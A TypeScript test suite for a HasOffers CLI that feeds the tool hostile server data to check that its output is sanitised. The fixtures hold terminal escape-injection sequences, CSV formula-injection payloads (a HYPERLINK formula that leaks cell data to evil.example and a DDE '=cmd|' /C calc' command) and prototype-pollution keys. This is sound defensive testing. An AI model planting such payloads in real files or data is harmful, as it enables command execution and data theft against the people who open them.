/**
 * The CLI's output when the server's data is hostile: whoever clicks a tracking link sets click-log
 * fields (affiliate_sub*, user_agent, source), and a compromised or buggy server can send anything.
 * A 127.0.0.1 stand-in answers with control characters (ESC, BEL, C1 CSI), spreadsheet formulas,
 * and field names like `__proto__` and `toString`. Checked:
 *  - nothing that reaches a terminal (tables, plain answers, ids, every stderr message) carries a
 *    control character other than the newlines of the layout;
 *  - --csv and raw-logs --out neutralise formula cells (a leading `'`), unless --raw-cells;
 *  - --json stays exact data, and carries no raw C1 control either;
 *  - data named like behaviour (`__proto__`, `toString`, `constructor`) is shown like any other field.
 */
import { existsSync, mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../../src/cli/run.js';
import { buildZip } from '../rawlog/helpers.js';
import type { FakeServer, SeenRequest } from './fake-server.js';
import { startFakeServer } from './fake-server.js';
import { runInProcess as run } from './run-cli.js';

const ESC = '\u001b';
const BEL = '\u0007';
const CSI = '\u009b';
/** Anything but the newline (and, in CSV, the CR and tab inside quoted cells) is a control that must not reach a terminal. */
// eslint-disable-next-line no-control-regex -- exactly what is looked for
const TERMINAL_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

const TITLE = `${ESC}]0;owned${BEL}`;
const CLEAR = `${ESC}[2J`;
/** An offer whose field names and values were chosen by an attacker. */
const OFFER_JSON = JSON.stringify({
  id: '1',
  name: `=HYPERLINK("http://evil.example/?"&A1,"Click")`,
  status: `active${CLEAR}`,
  description: `red${CSI}31m text`,
  default_payout: '-1.5',
  preview_url: '+1+1',
  offer_url: '@SUM(A1:A9)',
  note: '\tx',
  terms_and_conditions: '\rx',
  toString: 'data named toString',
  [`title${TITLE}`]: 'x',
  [`=cmd|' /C calc'!A0`]: 'header formula',
});
const OFFER = JSON.parse(OFFER_JSON.replace('"toString"', '"__proto__":"data named __proto__","toString"')) as Record<string, unknown>;
/** An unmodelled answer (Tag is in no schema): plain objects with behaviour-like keys. */
const TAGS = JSON.parse('[{"id":"1","__proto__":"p","toString":"t","constructor":"c","hasOwnProperty":"h","name":"=1+1"}]') as unknown;

const CLICKS =
  'transaction_id,offer_id,affiliate_sub1,user_agent,__proto__,toString,constructor,=cmd\r\n' +
  `t1,1,=HYPERLINK("x"),"Mozilla ${ESC}[31m",p,s,c,-2+3\r\n` +
  't2,-1.5,@SUM(1),"\tTAB",p2,s2,c2,+1\r\n';

function param(request: SeenRequest, key: string): string | undefined {
  return request.pairs.find(([name]) => name === key)?.[1];
}

function visible(text: string): string {
  return JSON.stringify(text);
}

describe.concurrent('CLI output with hostile server data', () => {
  let server: FakeServer;
  let env: Record<string, string>;
  const outDir = mkdtempSync(join(tmpdir(), 'tsoffers-hostile-'));

  beforeAll(async () => {
    server = await startFakeServer((request) => {
      const key = `${request.target}.${request.method}`;
      if (key === 'Offer.findAll') return { data: { page: 1, current: 1, count: 1, pageCount: 1, data: { '1': { Offer: OFFER } } } };
      if (key === 'Offer.findById') return { data: { Offer: OFFER } };
      if (key === 'Offer.findAllIds') return { data: [`1${CLEAR}`, `2${TITLE}`, '3'] };
      if (key === 'Offer.generateTrackingLink') return { data: `http://x/${BEL}${TITLE}` };
      if (key === 'Tag.findAll') return { data: TAGS };
      if (key === 'RawLog.listLogs') {
        const day = param(request, 'date_dir');
        return { data: { logFiles: [{ displayName: `${day}${CLEAR}`, filename: `${day}/clicks-${day}00${ESC}[1m.zip`, startTimestamp: '1474329600' }] } };
      }
      if (key === 'RawLog.getDownloadLink') return { data: { link: `${server.endpoint.replace('/Apiv3/json', '')}/dl/${encodeURIComponent(param(request, 'log_filename') ?? '')}` } };
      return { errors: [{ publicMessage: `No such method ${CLEAR}${TITLE}${CSI}31m` }] };
    });
    server.files.set(`/dl/${encodeURIComponent(`20160920/clicks-2016092000${ESC}[1m.zip`)}`, buildZip([{ name: 'a.csv', data: CLICKS }]));
    env = { HASOFFERS_ENDPOINT: server.endpoint, HASOFFERS_NETWORK_TOKEN: 'tok-hostile', HASOFFERS_NETWORK_ID: 'demo' };
  });
  afterAll(() => server.close());

  it('tables carry no control character, in headers or cells, and show data named __proto__ or toString', async () => {
    const result = await run(['offers', 'find-all', '--wide'], env);
    expect(result.code).toBe(0);
    expect(visible(result.stdout)).not.toMatch(/\\u00(0[0-8be-f]|1[0-9a-f]|[89][0-9a-f]|7f)/);
    expect(result.stdout).not.toMatch(TERMINAL_CONTROL);
    expect(result.stderr).not.toMatch(TERMINAL_CONTROL);
    const [header, , row] = result.stdout.split('\n');
    expect(header).toContain('__proto__');
    expect(header).toContain('toString');
    expect(row).toContain('data named __proto__');
    expect(row).toContain('data named toString');
    const record = await run(['offers', 'find-by-id', '1', '--wide'], env);
    expect(record.code).toBe(0);
    expect(record.stdout).not.toMatch(TERMINAL_CONTROL);
    expect(record.stdout).toMatch(/^__proto__ +data named __proto__$/m);
    const tags = await run(['call', 'Tag', 'findAll'], env);
    expect(tags.code).toBe(0);
    expect(JSON.parse(tags.stdout)).toEqual(TAGS);
  });

  it('find-all-ids, scalar call answers and HasOffers error messages carry no control character', async () => {
    const ids = await run(['offers', 'find-all-ids'], env);
    expect(ids.code).toBe(0);
    expect(ids.stdout).not.toMatch(TERMINAL_CONTROL);
    expect(ids.stdout.split('\n')[2]).toBe('3');
    const link = await run(['call', 'Offer', 'generateTrackingLink', 'offer_id=1', 'affiliate_id=2'], env);
    expect(link.code).toBe(0);
    expect(link.stdout).not.toMatch(TERMINAL_CONTROL);
    expect(link.stdout).toMatch(/^http:\/\/x\//);
    const error = await run(['call', 'Offer', 'nope'], env);
    expect(error.code).toBe(1);
    expect(error.stderr).toContain('No such method');
    expect(error.stderr).not.toMatch(TERMINAL_CONTROL);
    // --debug logs the raw answer and --verbose the failure, through the same safe stderr.
    const logged = await run(['call', 'Offer', 'nope', '--debug'], env);
    expect(logged.stderr).toContain('tsoffers - DEBUG - ');
    expect(logged.stderr).toContain('tsoffers - INFO - ');
    expect(logged.stderr).not.toMatch(TERMINAL_CONTROL);
  });

  it('--json is the exact data, with no raw C1 control', async () => {
    const result = await run(['offers', 'find-by-id', '1', '--json'], env);
    expect(result.code).toBe(0);
    expect(result.stdout).not.toMatch(TERMINAL_CONTROL);
    expect(JSON.parse(result.stdout)).toEqual(OFFER);
  });

  it('--csv neutralises formula cells with a leading quote, keeps plain negative numbers, and --raw-cells keeps everything', async () => {
    const result = await run(['offers', 'find-all', '--csv', '--fields', 'id,name,default_payout,preview_url,offer_url,note,terms_and_conditions'], env);
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    const [header, row] = result.stdout.split('\r\n');
    expect(header).toContain(`,'=cmd|' /C calc'!A0`);
    // The stand-in sends every field whatever --fields asks: the asked ones come first.
    const asked = `1,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",-1.5,'+1+1,'@SUM(A1:A9),"'\tx","'\rx",`;
    expect(row!.slice(0, asked.length)).toBe(asked);
    const raw = await run(['offers', 'find-all', '--csv', '--raw-cells', '--fields', 'id,name,default_payout,preview_url,offer_url,note,terms_and_conditions'], env);
    const rawAsked = `1,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",-1.5,+1+1,@SUM(A1:A9),"\tx","\rx",`;
    expect(raw.stdout.split('\r\n')[1]!.slice(0, rawAsked.length)).toBe(rawAsked);
    const tags = await run(['call', 'Tag', 'findAll', '--csv'], env);
    expect(tags.stdout).toBe("id,__proto__,toString,constructor,hasOwnProperty,name\r\n1,p,t,c,h,'=1+1\r\n");
  });

  it('raw-logs --out neutralises formula cells; columns named __proto__ and toString keep their values', async () => {
    const out = join(outDir, 'clicks.csv');
    const result = await run(['raw-logs', 'clicks', '20160920', '--out', out], env);
    expect(result.code).toBe(0);
    expect(result.stderr).not.toMatch(TERMINAL_CONTROL);
    expect(readFileSync(out, 'utf8')).toBe(
      "transaction_id,offer_id,affiliate_sub1,user_agent,__proto__,toString,constructor,'=cmd\r\n" +
        `t1,1,"'=HYPERLINK(""x"")",Mozilla ${ESC}[31m,p,s,c,'-2+3\r\n` +
        `t2,-1.5,'@SUM(1),"'\tTAB",p2,s2,c2,'+1\r\n`,
    );
    const raw = join(outDir, 'raw.csv');
    expect((await run(['raw-logs', 'clicks', '20160920', '--out', raw, '--raw-cells'], env)).code).toBe(0);
    expect(readFileSync(raw, 'utf8')).toBe(
      'transaction_id,offer_id,affiliate_sub1,user_agent,__proto__,toString,constructor,=cmd\r\n' + `t1,1,"=HYPERLINK(""x"")",Mozilla ${ESC}[31m,p,s,c,-2+3\r\n` + `t2,-1.5,@SUM(1),"\tTAB",p2,s2,c2,+1\r\n`,
    );
  });

  it('raw-logs on a terminal shows no control character of the data; file names in errors are shown safely', async () => {
    let stdout = '';
    let stderr = '';
    const code = await runCli(['raw-logs', 'clicks', '20160920'], {
      stdout: { write: (text: string) => (stdout += text), isTTY: true },
      stderr: { write: (text: string) => (stderr += text) },
      env: { COLUMNS: '200', ...env },
      cwd: outDir,
    });
    expect(code).toBe(0);
    expect(stdout.replace(/\r\n/g, '\n')).not.toMatch(TERMINAL_CONTROL);
    expect(stdout).toContain('Mozilla');
    const listing = await run(['raw-logs', 'clicks', 'list', '20160920'], env);
    expect(listing.stdout).not.toMatch(TERMINAL_CONTROL);
    const bad = join(outDir, `missing-dir${CLEAR}`, `out${TITLE}.csv`);
    const failed = await run(['raw-logs', 'clicks', '20160920', '--out', bad], env);
    expect(failed.code).toBe(7);
    expect(failed.stderr).toContain('missing-dir');
    expect(failed.stderr).not.toMatch(TERMINAL_CONTROL);
    expect(existsSync(join(outDir, `missing-dir${CLEAR}`))).toBe(false);
  });
});
